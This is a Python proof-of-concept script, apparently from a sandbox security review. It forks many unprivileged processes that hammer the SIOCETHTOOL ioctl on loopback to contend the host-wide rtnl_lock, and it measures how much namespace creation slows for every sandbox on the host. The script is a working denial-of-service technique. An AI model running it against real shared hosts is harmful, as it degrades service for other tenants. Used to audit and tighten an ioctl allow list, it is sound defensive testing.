"""a04 (offline, as uid 65534 in a user+network namespace like the sandbox's): SIOCETHTOOL (0x8946) is on round 44's ioctl
allow list, and dev_ethtool takes rtnl_lock, a mutex of the whole host (every netns created or torn down, every
sandbox's loopback). N processes call it in a loop on lo; the host times `unshare -n true` meanwhile (/tmp/netns_time.sh,
see a04.out.txt), against N plain CPU spinners.
usage: setpriv --reuid 65534 --regid 65534 --clear-groups unshare -rn python3 a04_ethtool_rtnl_hammer.py N SECONDS [ETHTOOL_CMD]"""
import socket, fcntl, struct, array, os, time, sys
n = int(sys.argv[1]); dur = float(sys.argv[2]); cmd = int(sys.argv[3], 0) if len(sys.argv) > 3 else 3
def work():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    buf = array.array('B', struct.pack('I', cmd) + b'\0' * 4096)
    addr, _ = buf.buffer_info()
    ifr = struct.pack('16sP', b'lo', addr)
    end = time.time() + dur; k = 0; err = None
    while time.time() < end:
        try:
            fcntl.ioctl(s, 0x8946, ifr); k += 1
        except OSError as e:
            err = e; k += 1
    print(os.getpid(), "calls", k, "last err", err, flush=True)
kids = []
for i in range(n):
    p = os.fork()
    if p == 0:
        work(); os._exit(0)
    kids.append(p)
for p in kids: os.waitpid(p, 0)
